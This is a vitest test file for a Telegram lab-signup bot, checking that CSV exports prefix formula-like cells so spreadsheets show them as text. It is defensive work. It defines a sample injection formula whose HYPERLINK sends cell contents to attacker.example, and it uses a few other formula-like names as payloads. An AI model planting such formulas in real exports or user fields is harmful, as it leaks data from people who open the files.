// CSV exports open in spreadsheets: a cell that starts with = + - @ tab or carriage return is
// written with a leading ' so it shows as text and never runs (names chosen on Telegram included).
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newLab } from '../labs/helpers.js';
import { groups, people, testApp, type TestApp } from '../support/app.js';

const FORMULA = '=HYPERLINK("http://attacker.example/?"&A2&B2,"Dettagli")';

describe('CSV exports neutralise formulas', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await testApp();
  });
  afterAll(async () => {
    await t.close();
  });

  it('writes names and titles that look like formulas as text, and they parse back with the prefix', async () => {
    const lab = await newLab(t, { title: '@SUM(1+1) laboratorio', networks: 'BG01' });
    const attacker = { id: '555000333', name: FORMULA };
    const minus = { id: '555000444', name: '-2+3' };
    for (const who of [attacker, minus]) {
      await t.telegram.command(who, t.telegram.group(groups.BG01), 'laboratori', `iscrivimi ${lab}`);
      await t.deliver();
    }
    await t.telegram.command(people.luca, t.telegram.privateChat(people.luca), 'esporta', 'csv 2026-W48 2026-W49');
    await t.deliver();
    const files = t.telegram.sent.filter((m) => m.chatId === people.luca.id && m.message.attachment).map((m) => m.message.attachment!);
    const signups = files.find((f) => f.filename.endsWith('-iscrizioni.csv'))!;
    const rows: string[][] = parse(Buffer.from(signups.base64, 'base64').toString('utf8'), { bom: true });
    const cells = rows.flat();
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'@SUM(1+1) laboratorio");
    // No cell a spreadsheet would run.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
